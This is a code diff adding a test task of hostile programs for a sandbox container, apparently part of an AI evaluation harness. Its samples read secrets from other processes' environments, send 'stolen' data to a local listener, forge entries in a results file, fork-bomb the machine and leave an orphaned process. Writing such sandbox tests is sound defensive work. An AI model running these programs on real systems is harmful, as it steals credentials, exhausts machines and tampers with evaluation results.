@@ -159,3 +159,55 @@ REPEATS = Task(
 
 TASKS = {t.name: t for t in (ADD, CHOICE, CODE, REPEATS)}
 FROZEN_TASKS = {FROZEN.name: FROZEN}  # kept apart: the oracle endpoint scores every task of TASKS
+
+
+# ---- hostile programs for the sandbox container test: each fails its sample unless its attack works; the
+# witness (run last) passes only if no process of its uid other than itself is left. The port of a host
+# listener is baked into the reply when the endpoint learns it (HOSTILE_PORT in the endpoint's environment).
+HOSTILE = {
+    "environ": (
+        "import glob\nfound = b''\nfor p in glob.glob('/proc/[0-9]*/environ'):\n    try:\n"
+        "        found += open(p, 'rb').read()\n    except OSError:\n        pass\n"
+        "assert b'sk-' in found, 'no secret readable'\n"
+    ),
+    "connect": (
+        "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
+    ),
+    "write_results": "open('/results/samples.jsonl', 'a').write('{{\"key\": \"forged\"}}\\n')\n",
+    "fork_bomb": "import os\nwhile True:\n    os.fork()\n",
+    "grandchild": (
+        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+        "        time.sleep(3600)\n    os._exit(0)\ntime.sleep(3600)\n"
+    ),
+    "witness": (
+        "import os\nme = os.getuid()\nothers = []\nfor pid in os.listdir('/proc'):\n"
+        "    if pid.isdigit() and int(pid) != os.getpid():\n        try:\n"
+        "            st = dict(l.split(':', 1) for l in open(f'/proc/{{pid}}/status') if ':' in l)\n"
+        "        except OSError:\n            continue\n"
+        "        if int(st['Uid'].split()[1]) == me:\n            others.append(pid)\n"
+        "assert others == [], others\n"
+    ),
+}
+
+
+def _hostile_items() -> list[Sample]:
+    import os
+
+    port = os.environ.get("HOSTILE_PORT", "9")
+    return [Sample(k, "", "", extra={"canonical_solution": v.format(port=port)}) for k, v in HOSTILE.items()]
+
+
+async def _reply(sample, model, ctx):
+    return {"response": (await model.generate(f"hostile {sample.id}")).text}
+
+
+HOSTILE_TASK = Task(
+    name="hostile",
+    protocol="test task: hostile programs",
+    metrics=("pass@1",),
+    endpoint_types=("completions",),
+    load=_hostile_items,
+    solve=_reply,
+    program=lambda sample, output: output["response"],
+)
+hostile_tasks = {HOSTILE_TASK.name: HOSTILE_TASK}
